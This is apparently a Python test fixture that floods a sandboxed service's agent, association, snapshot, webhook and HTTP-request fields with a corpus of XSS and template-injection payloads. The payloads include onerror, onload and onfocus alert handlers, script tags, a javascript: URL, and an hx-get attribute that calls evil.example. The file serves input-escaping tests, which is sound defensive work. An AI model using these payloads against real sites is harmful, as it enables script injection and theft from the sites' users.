"""Hostile text in every field that a client, a receiver or a file can fill."""

import json

from doubles.visitor import Visitor
from pytest_turris.core.sandbox import Sandbox
from pytest_turris.core.wire.messages import Request
from pytest_turris.core.worlds import World

CORPUS = (
    '<xss-a onmouseover="alert(1)">',
    "\"'><xss-b src=x onerror=alert(1)>",
    "</textarea></title></template><xss-c>",
    "javascript:alert(1)//<xss-d>",
    "{{ 7*7 }}{% raw %}<xss-e>",
    "\u2028</script><xss-f>",
    '" autofocus onfocus=alert(1) hx-get="http://evil.example" x="<xss-g>',
    "<img src=x onerror=alert(1)><svg onload=alert(1)><script>alert(1)</script>",
)
HOSTILE = " ".join(CORPUS)


def fill(visitor: Visitor) -> None:
    """Make every field of a visitor's sandbox hostile."""
    sandbox = visitor.sandbox
    sandbox.agents.add(first_name=HOSTILE, last_name=HOSTILE, external_id=HOSTILE)
    sandbox.associations.add(downstream_entity_name=HOSTILE, branch_name=HOSTILE)
    # What is imported begins with an empty journal.
    world = json.loads(World.of(sandbox).to_json()) | {"about": HOSTILE}
    visitor.post("do/snapshots/import", world=json.dumps(world))
    _call(sandbox)
    sandbox.faults.add(
        "list_agents", status=503, headers={"x": HOSTILE.encode("ascii", "replace").decode()}
    )
    visitor.do(
        "webhooks register", url="http://127.0.0.1:9/<xss-j>", event="PRODUCER_AGREEMENT_EXECUTED"
    )
    sandbox.execute_agreement(next(iter(sandbox.associations)))


def _call(sandbox: Sandbox) -> None:
    token = sandbox.tokens.issue(sandbox.client)
    body = json.dumps(dict.fromkeys(("clientId", "clientSecret", "a", HOSTILE[:60]), HOSTILE))
    for path, bearer in (
        ("/v1/agents", str(token.text)),
        ("/v1/agents", HOSTILE),
        ("/v1/auth/jwt", ""),
    ):
        for method in ("GET", "POST", "<xss-h>"):
            fields = (
                ("authorization", f"Bearer {bearer}"),
                ("user-agent", HOSTILE),
                ("<xss-i>", HOSTILE),
                ("idempotency-key", HOSTILE[:100]),
                ("content-type", "application/json"),
            )
            sandbox.handle(
                Request(
                    method=method, path=f"{path}/{HOSTILE}" if method == "GET" else path,
                    query=f"q={HOSTILE}", headers=fields, body=body.encode(), host="127.0.0.1",
                )
            )  # fmt: skip
